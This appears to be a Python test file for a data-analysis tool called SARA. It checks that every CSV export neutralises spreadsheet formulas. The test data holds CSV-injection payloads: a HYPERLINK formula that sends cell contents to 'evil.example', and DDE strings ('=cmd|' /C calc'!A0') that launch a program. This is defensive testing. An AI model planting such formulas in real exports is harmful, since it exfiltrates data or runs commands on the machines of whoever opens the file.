"""Every export SARA writes goes through the one writer that neutralises spreadsheet formulas
(sara/report/export.py): a static check that nothing else writes CSV or XLSX for people, and
the audit, quarantine and scanning exports driven with formula-like values end to end.
(The casework exports have theirs in tests/test_casework_exports.py.)"""

from __future__ import annotations

import csv
import re

from sara.access import users
from sara.intake.mapped import load_events
from tests.cli import PASSWORD, ok_json
from tests.conftest import ROOT

FORMULA = ("=", "+", "-", "@", "\t", "\r")
# the bulk writer feeds the database's COPY, and intake writes a rejected row back as the raw
# text it keeps: neither is handed to a person (a quarantine export goes through the writer)
ALLOWED = {"sara/report/export.py", "sara/store/bulk.py", "sara/intake/rows.py",
           "sara/report/documents.py",  # a report's workbook: every text cell through export.safe_cell (tests/test_report_documents.py)
           "sara/casework/demo_tags.py"}  # the synthetic files the demo loads, in a temporary folder: input, not an export


def test_nothing_but_the_one_writer_writes_csv_or_xlsx():
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.write_csv\(|\.write_excel\(|Workbook\(|\.to_csv\(")
    found = [f"{p.relative_to(ROOT)}:{n}" for p in sorted((ROOT / "sara").rglob("*.py")) if str(p.relative_to(ROOT)) not in ALLOWED
             for n, line in enumerate(p.read_text().splitlines(), 1) if writers.search(line)]  # fmt: skip
    assert found == [], "write exports through sara.report.export: " + ", ".join(found)


def cells(path) -> list[str]:
    return [c for row in csv.reader(path.open(newline="", encoding="utf-8")) for c in row]


def number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def starts_formula(values) -> list[str]:
    """Cells a spreadsheet would run: beginning with a formula character, and not a number
    SARA itself wrote (-3, -100.0)."""
    return [c for c in values if c.startswith(FORMULA) and not number(c)]


MAPPING = """
source = "ASB log"

[columns]
source_id = "Ref"
category = "Type"
location = "Where"

[time]
occurred = "When"
format = "%Y-%m-%d %H:%M"

[coordinates]
x = "Easting"
y = "Northing"
crs = "EPSG:27700"
"""


def test_audit_trends_and_repeats_exports_cannot_start_a_formula(engine, db_url, tmp_path):
    users.add_organisation(engine, "Police", "police")
    users.add_user(engine, "lead", "Police", "lead", PASSWORD)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    rows = [f'R{i},"{v.replace(chr(34), chr(34) * 2)}",2025-0{1 + i % 4}-10 22:00,447500,370100,"{v.replace(chr(34), chr(34) * 2)}"'
            for i, v in enumerate(hostile * 3)]  # fmt: skip
    (tmp_path / "log.csv").write_text("Ref,Type,When,Easting,Northing,Where\n" + "\n".join(rows) + "\n")
    (tmp_path / "log.toml").write_text(MAPPING)
    assert load_events(engine, [str(tmp_path / "log.csv")], str(tmp_path / "log.toml")).to_dict()["inserted"] == 12
    trends = tmp_path / "trends.csv"
    ok_json("trends", "--end", "2025-04", "--months", "2", "--csv", str(trends), "--db", db_url)
    assert {"'" + v for v in hostile} <= set(cells(trends)) and starts_formula(cells(trends)) == []
    repeats = tmp_path / "repeats.csv"
    ok_json("repeats", "--of", "location", "--threshold", "2", "--months", "12", "--csv", str(repeats), "--db", db_url)
    assert starts_formula(cells(repeats)) == []
    audit = tmp_path / "audit.csv"
    ok_json("audit", "export", "--org", "Police", "--purpose", "=cmd|' /C calc'!A0", "--csv", str(audit), "--as", "lead", "--db", db_url)
    ok_json("audit", "export", "--org", "Police", "--purpose", "=cmd|' /C calc'!A0", "--csv", str(audit), "--as", "lead", "--db", db_url)
    assert "'=cmd|' /C calc'!A0" in cells(audit) and starts_formula(cells(audit)) == []
